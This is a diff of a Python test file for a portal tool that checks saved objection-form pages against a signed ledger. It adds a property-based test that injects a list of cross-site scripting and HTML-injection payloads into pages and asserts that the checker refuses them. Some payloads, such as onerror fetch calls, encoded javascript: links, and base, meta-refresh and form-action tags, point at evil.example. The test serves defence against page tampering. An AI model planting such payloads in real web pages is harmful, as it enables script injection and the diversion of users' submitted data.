@@ -1,10 +1,13 @@
 """Anybody compares a saved page of the form, and a signed answer, with the ledger."""
 
 import json
+import re
 from datetime import timedelta
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from portal.casework.answer_signing import answer_key, signed_answer
 from portal.casework.identities import new_identity
@@ -14,7 +17,10 @@ from portal.domain.objection import Answer, AnswerKind, CaseState
 from portal.ledger.chain import check_chain
 from portal.ledger.ledger_lines import LEDGER_NAME, ledger_texts, read_ledger
 from portal.ledger.sealing_lines import keys_of, scripts_of
+from portal.ledger.signing import new_key
+from portal.ledger.siteproof import sign_site
 from portal.proof.form_lines import FormSeals
+from portal.proof.form_page import _of_plain, form_faults, plain_form
 from portal.proof.publishing import publish_folder
 from portal.sealed.public_keys import SIGNS, PublicKeys
 from portal.sealed.signed_answers import text_of
@@ -101,8 +107,9 @@ def test_a_saved_page_is_as_the_ledger_has_it_or_what_differs_is_told(published,
     for good in (former, frozen, page):
         saved.write_text(good)
         code, output = told(saved)
-        assert (code, output.splitlines()[-1]) == (0, "结论：未改动"), output
+        assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
     assert "全部密封公钥都与台账一致" in output
+    assert "没有核对的：页面的文字" in output
     age = next(name for name in form_digests() if name.startswith("age."))
     other = new_identity()[1]
     seals = published.keys.recipients("pingding-office", SLUG)[0]
@@ -110,11 +117,13 @@ def test_a_saved_page_is_as_the_ledger_has_it_or_what_differs_is_told(published,
         (frozen.replace(seals, other), "公钥与台账不符：pingding-office"),
         (page.replace(seals, other), "公钥与台账不符：pingding-office"),
         (page.replace(form_digests()[age], "sha384-AAAA"), f"脚本 {age}"),
-        (page.replace("data-suite", "data-other"), "直接写入的脚本"),
+        (page.replace("data-suite", "data-other"), "不用的属性“data-other”"),
         (page.replace("</head>", '<script src="/static/more.js"></script></head>'), "more.js"),
         (page.replace("</head>", "<script>fetch('x')</script></head>"), "直接写入的脚本"),
         (page.replace("<h1", '<h1 onclick="x()"'), "直接写入的程序"),
-        (page.replace(' integrity="sha384-', ' data-was="sha384-'), "校验值与台账不符"),
+        (page.replace(' integrity="sha384-', ' data-was="sha384-'), "属性“data-was”"),
+        (page.replace(' integrity="sha384-', ' title="sha384-'), "属性“title”"),
+        (re.sub(' integrity="[^"]*"', "", page), "校验值与台账不符"),
     ):
         assert changed != page, said
         saved.write_text(changed)
@@ -123,11 +132,140 @@ def test_a_saved_page_is_as_the_ledger_has_it_or_what_differs_is_told(published,
         assert said in output
 
 
+def test_the_frozen_form_is_unchanged_only_as_the_signed_site_has_it(published, tmp_path):
+    published.side.catalogue = published.tree.catalogue()
+    frozen = Citizen(published.side).get(f"/objections/{SLUG}/")
+    site, saved = tmp_path / "site", tmp_path / "表单.html"
+    page = site / "objections" / SLUG / "index.html"
+    page.parent.mkdir(parents=True)
+    page.write_text(frozen)
+    sign_site(site, KEY, OPEN)
+    saved.write_text(frozen)
+    assert told(page)[0] == 0
+    assert told(saved)[0] == 3, "no site at hand"
+    code, output = told(saved, "--site", str(site))
+    assert (code, output.splitlines()[-1]) == (0, "结论：未改动"), output
+    saved.write_text(frozen.replace("提出异议", "提出異議", 1))
+    code, output = told(saved, "--site", str(site))
+    assert (code, output.splitlines()[-1]) == (1, "结论：已改动"), output
+    assert told(saved)[0] == 3
+    seals = published.keys.recipients("pingding-office", SLUG)[0]
+    page.write_text(frozen.replace(seals, new_identity()[1]))
+    sign_site(site, new_key(tmp_path / "other.pem", None), OPEN)
+    assert told(page)[0] == 1, "a site of somebody else's proves nothing"
+    page.write_text(frozen)
+    sign_site(site, new_key(tmp_path / "third.pem", None), OPEN)
+    assert told(page)[0] == 3
+    (site / "manifest.json.minisig").unlink()
+    assert told(page)[0] == 3
+
+
+# What makes a browser run, load or send what is not the site's, at whatever place it stands.
+ACTIVE = (
+    "<svg/onload=fetch('//x')>",
+    '<img alt=">" src=x onerror="fetch(1)">',
+    '<img src="/x" onerror="fetch(1)">',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<a href="java&Tab;script:alert(1)">x</a>',
+    '<a href="/\\evil.example/">x</a>',
+    '<a href="//evil.example/">x</a>',
+    '<script src="https:/evil.example/static/sealing.js"></script>',
+    '<script src="/static/more.js"></script>',
+    "<script>fetch('x')</script>",
+    "<SCRIPT SRC=/static/more.js></SCRIPT>",
+    '<button data-old="/x&quot;&gt;&lt;script/src=/y&gt;">x</button>',
+    '<script src="/x" data-old="/x&quot;&gt;&lt;script/src=/y&gt;"></script>',
+    '<iframe srcdoc="x"></iframe>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "<style>@import 'https://evil.example/'</style>",
+    '<form method="post" action="/new"><input name="facts"></form>',
+    '<form role="search" action="/search/"><textarea name="facts"></textarea></form>',
+    '<form method="post" action="/new" data-sealing="{}"></form>',
+    "<template><form></template></form>",
+    "<template></form></template>",
+    "<!-- x -->",
+    "<!-- ",
+    "<![CDATA[ x ]]>",
+    "<?xml x?>",
+    "<noscript>",
+    "<plaintext>",
+    "<textarea>",
+    "<template>",
+    "<title>",
+    "<",
+    "\x1b(B",
+    "\x00",
+)
+TRAITS = (
+    ' onclick="x()"',
+    " onfocus=x autofocus",
+    ' style="x"',
+    ' formaction="https://evil.example/"',
+    "/onload=x",
+    ' action="https://evil.example/"',
+    ' data-begin="https://evil.example/begin"',
+    ' src="https://evil.example/static/age.js" integrity=""',
+    ' class="x" class="y"',
+    " data-sealing='{}'",
+    ' data-asking="/x"',
+)
+
+
+def test_whatever_is_written_into_a_page_is_refused_wherever_it_stands(published):
+    texts = ledger_texts(published.ledger)
+    scripts, keys = scripts_of(texts), keys_of(texts, SLUG)
+    published.side.catalogue = published.tree.catalogue()
+    citizen = Citizen(published.side)
+    frozen = citizen.get(f"/objections/{SLUG}/")
+    pages = (published.page, frozen, citizen.get("/objections/status"))
+
+    def faults(page):
+        return form_faults(_of_plain(plain_form(page.encode())), scripts, keys)
+
+    assert not any(map(faults, pages))
+
+    @settings(max_examples=120, deadline=None)
+    @given(st.data())
+    def inserted(data):
+        page = data.draw(st.sampled_from(pages))
+        if data.draw(st.booleans()):
+            place, more = data.draw(st.integers(0, len(page))), data.draw(st.sampled_from(ACTIVE))
+        else:
+            tags = list(re.finditer(r"<[a-z][a-z0-9]*", page))
+            tag = data.draw(st.sampled_from(tags))
+            ends = (tag.end(), page.index(">", tag.end()))
+            place, more = data.draw(st.sampled_from(ends)), data.draw(st.sampled_from(TRAITS))
+        assert faults(page[:place] + more + page[place:]), (place, more)
+
+    inserted()
+    other = new_identity()[1]
+    seals = published.keys.recipients("pingding-office", SLUG)[0]
+    [form] = re.findall(r"<form[^>]*data-sealing[^>]*>", frozen)
+    false = form.replace(seals, other)
+    [sealing] = re.findall(r'data-sealing="[^"]*"', form)
+    named = "&#34;offices&#34;:{&#34;x&#34;:{&#34;slug&#34;:&#34;pingding-office&#34;,"
+    for changed in (
+        frozen.replace(form, false).replace("</body>", f"{form}</form></body>"),
+        frozen.replace(form, false).replace("</body>", f"<!-- {form} --></body>"),
+        frozen.replace(sealing, f"{sealing.replace(seals, other)} {sealing}"),
+        frozen.replace("{&#34;", f"{{{named}&#34;keys&#34;:[&#34;{other}&#34;]}}}},&#34;", 1),
+        frozen.replace("&#34;send&#34;:&#34;", "&#34;send&#34;:&#34;https://evil.example"),
+        frozen.replace("data-suite=", f'data-age="/static/{next(iter(scripts))}" data-suite='),
+        re.sub(r"<script[^>]*/sealing[^>]*></script>", "", frozen),
+        frozen.replace("data-begin=", "data-was="),
+        published.page.replace("data-suite=", 'data-frozen="javascript:x()" data-suite='),
+        published.page.replace("data-worker=", 'data-tells="mail" data-worker="//evil.example'),
+    ):
+        assert changed != frozen
+        assert faults(changed)
+
+
 def test_a_saved_look_up_page_is_held_against_the_ledger_too(published, tmp_path):
     page, saved = Citizen(published.side).get("/objections/status"), tmp_path / "查询.html"
     saved.write_text(page)
     code, output = told(saved)
-    assert (code, output.splitlines()[-1]) == (0, "结论：未改动"), output
+    assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
     assert "查询异议办理的页面" in output
     digests = {name.split(".")[0]: digest for name, digest in form_digests().items()}
     for changed in (
@@ -156,7 +294,7 @@ def test_a_page_that_seals_with_sm2_is_held_against_the_ledger_too(
     ):
         saved = tmp_path / name
         saved.write_text(page)
-        assert told(saved)[0] == 0
+        assert told(saved)[0] == 3
         saved.write_text(page.replace(form_digests()[sm], "sha384-AAAA"))
         code, output = told(saved)
         assert code == 1
